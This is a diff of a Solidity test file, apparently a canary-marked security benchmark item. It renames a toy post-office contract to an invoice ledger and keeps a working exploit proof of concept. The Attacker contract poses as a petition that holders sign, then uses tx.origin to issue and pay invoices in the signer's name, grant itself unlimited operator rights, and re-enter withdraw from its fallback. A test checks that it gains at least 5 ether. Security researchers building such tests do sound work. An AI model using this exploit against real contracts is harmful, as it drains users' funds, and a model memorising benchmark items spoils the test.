@@ -1,70 +1,70 @@
-// SPDX-License-Identifier: GPL-3.0-or-later
+// SPDX-License-Identifier: MIT
 pragma solidity 0.5.17;
 
-import "./SallowPostOffice.sol";
+import "./InvoiceLedger.sol";
 
 // assay-canary-00cebc39-59e5-4670-bb12-86a03a264626
 
 interface Vm {
-    function deal(address who, uint256 amount) external;
-    function warp(uint256 time) external;
+    function deal(address who, uint amount) external;
+    function warp(uint time) external;
     function prank(address who) external;
     function expectRevert(bytes calldata reason) external;
     function prank(address sender, address origin) external;
 }
 
-/// A petition that box holders sign. It has a box too, and tries the others' meanwhile.
+/// A petition that holders sign. It has an account too, and tries the others' meanwhile.
 contract Attacker {
-    SallowPostOffice internal office;
+    InvoiceLedger internal ledger;
     bool internal again;
-    mapping(address => uint256) public signedAt;
+    mapping(address => uint) public signedAt;
 
-    constructor(SallowPostOffice office_) public {
-        office = office_;
+    constructor(InvoiceLedger ledger_) public {
+        ledger = ledger_;
     }
 
     function() external payable {
         if (!again) return;
         again = false;
-        _try(abi.encodeWithSelector(office.payOut.selector, msg.value));
+        _try(abi.encodeWithSelector(ledger.withdraw.selector, msg.value));
     }
 
     function _try(bytes memory data) private returns (bool ok) {
-        (ok, ) = address(office).call(data);
+        (ok, ) = address(ledger).call(data);
     }
 
     function prepare() external {
-        office.rent.value(0.05 ether)();
+        ledger.renew.value(0.05 ether)();
     }
 
     function sign() external {
         signedAt[tx.origin] = now;
-        (uint256 theirs, , , ) = office.boxes(tx.origin);
-        uint256 free = office.hand(tx.origin, 0);
-        uint256 most = office.hand(tx.origin, theirs);
-        uint256 own = office.hand(address(this), 0.001 ether);
+        (uint theirs, , , ) = ledger.accounts(tx.origin);
+        uint free = ledger.issueInvoice(tx.origin, 0);
+        uint most = ledger.issueInvoice(tx.origin, theirs);
+        uint own = ledger.issueInvoice(address(this), 0.001 ether);
 
-        _try(abi.encodeWithSelector(office.setClerk.selector, address(this), uint256(-1)));
-        _try(abi.encodeWithSelector(office.collect.selector, free));
-        _try(abi.encodeWithSelector(office.collect.selector, most));
-        _try(abi.encodeWithSelector(office.collect.selector, own));
-        _try(abi.encodeWithSelector(office.giveBack.selector, most));
-        _try(abi.encodeWithSelector(office.chooseNumber.selector, 7));
-        _try(abi.encodeWithSelector(office.takeTakings.selector));
-        _try(abi.encodeWithSelector(office.payOut.selector, theirs + 1 ether));
-        (uint256 mine, , , ) = office.boxes(address(this));
+        _try(abi.encodeWithSelector(ledger.setOperator.selector, address(this), uint(-1)));
+        _try(abi.encodeWithSelector(ledger.payInvoice.selector, free));
+        _try(abi.encodeWithSelector(ledger.payInvoice.selector, most));
+        _try(abi.encodeWithSelector(ledger.payInvoice.selector, own));
+        _try(abi.encodeWithSelector(ledger.cancelInvoice.selector, most));
+        _try(abi.encodeWithSelector(ledger.chooseCode.selector, 7));
+        _try(abi.encodeWithSelector(ledger.collectFees.selector));
+        _try(abi.encodeWithSelector(ledger.withdraw.selector, theirs + 1 ether));
+        (uint mine, , , ) = ledger.accounts(address(this));
         again = true;
-        _try(abi.encodeWithSelector(office.payOut.selector, mine));
+        _try(abi.encodeWithSelector(ledger.withdraw.selector, mine));
     }
 }
 
 contract Proof {
-    Vm internal constant vm = Vm(address(uint160(uint256(keccak256("hevm cheat code")))));
+    Vm internal constant vm = Vm(address(uint160(uint(keccak256("hevm cheat code")))));
 
     address internal constant LOTTE = address(0x1077E);
-    address internal constant CLERK = address(0xC1E2C);
-    SallowPostOffice internal office;
-    Attacker internal petition;
+    address internal constant OPERATOR = address(0xC1E2C);
+    InvoiceLedger internal ledger;
+    Attacker internal mallory;
     address internal gero; // signs his transactions himself
 
     function() external payable {}
@@ -72,66 +72,70 @@ contract Proof {
     function setUp() public {
         vm.warp(1700000000);
         gero = tx.origin;
-        office = new SallowPostOffice();
-        petition = new Attacker(office);
-        vm.deal(address(petition), 0.05 ether);
-        petition.prepare();
+        ledger = new InvoiceLedger();
+        mallory = new Attacker(ledger);
+        vm.deal(address(mallory), 0.05 ether);
+        mallory.prepare();
         vm.deal(gero, 8.02 ether);
         vm.deal(LOTTE, 3.02 ether);
         vm.prank(gero);
-        office.rent.value(8.02 ether)();
+        ledger.renew.value(8.02 ether)();
         vm.prank(LOTTE);
-        office.rent.value(3.02 ether)();
+        ledger.renew.value(3.02 ether)();
     }
 
     function _try(bytes memory data) private returns (bool ok) {
-        (ok, ) = address(office).call(data);
+        (ok, ) = address(ledger).call(data);
     }
 
-    function _postage(address who) private view returns (uint256 postage) {
-        (postage, , , ) = office.boxes(who);
+    function _balance(address who) private view returns (uint balance) {
+        (balance, , , ) = ledger.accounts(who);
     }
 
     function test_Regular() public {
         vm.prank(gero);
-        office.chooseNumber(12);
-        require(office.holderOf(12) == gero, "number");
+        ledger.chooseCode(12);
+        require(ledger.holderOf(12) == gero, "code");
         vm.prank(gero);
-        office.frank(LOTTE, "dear Lotte");
-        require(_postage(gero) == 7.999 ether, "franked");
+        ledger.sendNotice(LOTTE, "a notice");
+        require(_balance(gero) == 7.999 ether, "notice");
         vm.prank(gero);
-        uint256 parcel = office.hand(LOTTE, 0.5 ether);
-        vm.prank(CLERK);
-        require(!_try(abi.encodeWithSelector(office.collect.selector, parcel)), "no limit");
+        uint invoice = ledger.issueInvoice(LOTTE, 0.5 ether);
+        vm.prank(OPERATOR);
+        require(!_try(abi.encodeWithSelector(ledger.payInvoice.selector, invoice)), "no limit");
         vm.prank(LOTTE);
-        office.setClerk(CLERK, 0.6 ether);
-        vm.prank(CLERK);
-        office.collect(parcel);
-        require(_postage(LOTTE) == 2.5 ether && _postage(gero) == 8.498 ether, "paid on delivery");
-        require(office.clerkLimit(LOTTE, CLERK) == 0.1 ether, "less the charge");
+        ledger.setOperator(OPERATOR, 0.6 ether);
+        vm.prank(OPERATOR);
+        ledger.payInvoice(invoice);
+        require(_balance(LOTTE) == 2.5 ether && _balance(gero) == 8.498 ether, "paid");
+        require(ledger.operatorLimit(LOTTE, OPERATOR) == 0.1 ether, "less the charge");
 
         vm.prank(LOTTE);
-        parcel = office.hand(gero, 0.2 ether);
-        require(!_try(abi.encodeWithSelector(office.giveBack.selector, parcel)), "too early");
+        invoice = ledger.issueInvoice(gero, 0.2 ether);
+        require(!_try(abi.encodeWithSelector(ledger.cancelInvoice.selector, invoice)), "too early");
         vm.warp(now + 30 days);
-        office.giveBack(parcel);
-        (address from, , , ) = office.parcelAt(parcel);
-        require(from == address(0), "returned");
+        ledger.cancelInvoice(invoice);
+        (address from, , , ) = ledger.invoiceAt(invoice);
+        require(from == address(0), "cancelled");
         vm.prank(LOTTE);
-        parcel = office.hand(gero, 0.2 ether);
+        invoice = ledger.issueInvoice(gero, 0.2 ether);
         vm.prank(gero);
-        office.collect(parcel);
+        ledger.payInvoice(invoice);
 
         vm.deal(LOTTE, 1 ether);
         vm.prank(LOTTE);
-        office.topUp.value(1 ether)(gero);
+        ledger.depositFor.value(1 ether)(gero);
         vm.prank(gero);
-        office.payOut(9.298 ether);
-        require(gero.balance == 9.298 ether && _postage(gero) == 0, "paid out");
-        uint256 before = address(this).balance;
-        office.takeTakings();
-        require(address(this).balance - before == 0.064 ether, "rents and stamps");
-        require(address(office).balance == _postage(LOTTE) + _postage(address(petition)), "books");
+        ledger.withdraw(9.298 ether);
+        require(gero.balance == 9.298 ether && _balance(gero) == 0, "paid out");
+        uint before = address(this).balance;
+        ledger.collectFees();
+        require(address(this).balance - before == 0.064 ether, "fees");
+        require(address(ledger).balance == _balance(LOTTE) + _balance(address(mallory)), "books");
+        ledger.transferOwnership(LOTTE);
+        vm.prank(LOTTE);
+        ledger.renounceOwnership();
+        require(ledger.owner() == address(0), "renounced");
     }
 
     // What is refused, each from the state after setUp().
@@ -142,79 +146,91 @@ contract Proof {
         vm.expectRevert(why);
     }
 
-    /// Nothing is done with a box that nobody pays for.
-    function test_RefusesWithoutABox() public {
+    /// Nothing is done with an account that nobody pays for.
+    function test_RefusesWithoutAnAccount() public {
         address none = address(0xBEE);
         vm.deal(none, 1 ether);
-        refuses(none, "rent");
-        office.rent.value(0.01 ether)();
+        refuses(none, "the annual fee was not paid");
+        ledger.renew.value(0.01 ether)();
         vm.prank(none, none);
-        vm.expectRevert("no box");
-        office.chooseNumber(5);
-        refuses(none, "no box");
-        office.topUp.value(1)(none);
-        refuses(none, "no box");
-        office.setClerk(CLERK, 1);
-        refuses(none, "no box");
-        office.frank(LOTTE, "");
-        refuses(none, "no box");
-        office.hand(LOTTE, 0);
-        refuses(LOTTE, "no box");
-        office.frank(none, "");
-        refuses(LOTTE, "no box");
-        office.hand(none, 0);
-        refuses(LOTTE, "postmaster");
-        office.takeTakings();
+        vm.expectRevert("the account is not open");
+        ledger.chooseCode(5);
+        refuses(none, "the account is not open");
+        ledger.depositFor.value(1)(none);
+        refuses(none, "the account is not open");
+        ledger.setOperator(OPERATOR, 1);
+        refuses(none, "the account is not open");
+        ledger.sendNotice(LOTTE, "");
+        refuses(none, "the account is not open");
+        ledger.issueInvoice(LOTTE, 0);
+        refuses(LOTTE, "the account is not open");
+        ledger.sendNotice(none, "");
+        refuses(LOTTE, "the account is not open");
+        ledger.issueInvoice(none, 0);
+        refuses(LOTTE, "Ownable: caller is not the owner");
+        ledger.collectFees();
     }
 
-    /// A number is free, and is chosen by a person.
-    function test_RefusesNumbers() public {
-        refuses(LOTTE, "persons only");
-        office.chooseNumber(5);
+    /// A code is free, and is chosen by a person.
+    function test_RefusesCodes() public {
+        refuses(LOTTE, "only a person may call this");
+        ledger.chooseCode(5);
         vm.prank(gero);
-        office.chooseNumber(5);
+        ledger.chooseCode(5);
         vm.prank(gero, gero);
-        vm.expectRevert("number");
-        office.chooseNumber(0);
+        vm.expectRevert("the code must not be zero");
+        ledger.chooseCode(0);
         vm.prank(LOTTE, LOTTE);
-        vm.expectRevert("number");
-        office.chooseNumber(5);
+        vm.expectRevert("the code is taken");
+        ledger.chooseCode(5);
     }
 
-    /// Parcels that are gone, are free of charge, or cannot be paid out.
-    function test_RefusesParcels() public {
+    /// Invoices that are paid or come to nothing, and payments that are refused.
+    function test_RefusesInvoices() public {
         vm.prank(gero);
-        uint256 parcel = office.hand(LOTTE, 0);
-        refuses(CLERK, "not the addressee");
-        office.collect(parcel);
+        uint invoice = ledger.issueInvoice(LOTTE, 0);
+        refuses(OPERATOR, "the sender may not pay this");
+        ledger.payInvoice(invoice);
         vm.prank(LOTTE, LOTTE);
-        office.collect(parcel);
+        ledger.payInvoice(invoice);
         vm.prank(address(0), address(0));
-        vm.expectRevert("gone");
-        office.collect(parcel);
-        vm.expectRevert("in the window");
-        office.giveBack(parcel);
-        vm.deal(address(office), 0);
-        refuses(LOTTE, "refused");
-        office.payOut(1 ether);
+        vm.expectRevert("the invoice is paid or cancelled");
+        ledger.payInvoice(invoice);
+        vm.expectRevert("the invoice is paid or cancelled");
+        ledger.cancelInvoice(invoice);
+        vm.prank(gero);
+        invoice = ledger.issueInvoice(LOTTE, 0.1 ether);
+        refuses(OPERATOR, "the sender may not pay this");
+        ledger.payInvoice(invoice);
+        vm.expectRevert("the invoice can still be paid");
+        ledger.cancelInvoice(invoice);
+        refuses(LOTTE, "the balance is too small");
+        ledger.withdraw(3.1 ether);
+        refuses(LOTTE, "Ownable: caller is not the owner");
+        ledger.transferOwnership(LOTTE);
+        refuses(LOTTE, "Ownable: caller is not the owner");
+        ledger.renounceOwnership();
+        vm.deal(address(ledger), 0);
+        refuses(LOTTE, "the payment was refused");
+        ledger.withdraw(1 ether);
     }
 
     // gero, who starts this transaction, signs the petition.
     function exploit() public {
-        petition.sign();
+        mallory.sign();
     }
 
     function test_Exploit() public {
-        uint256 before = address(petition).balance;
+        uint before = address(mallory).balance;
         exploit();
-        require(address(petition).balance - before >= 5 ether, "nothing gained");
+        require(address(mallory).balance - before >= 5 ether, "nothing gained");
     }
 
     function target() public view returns (address) {
-        return address(office);
+        return address(ledger);
     }
 
     function attacker() public view returns (address) {
-        return address(petition);
+        return address(mallory);
     }
 }
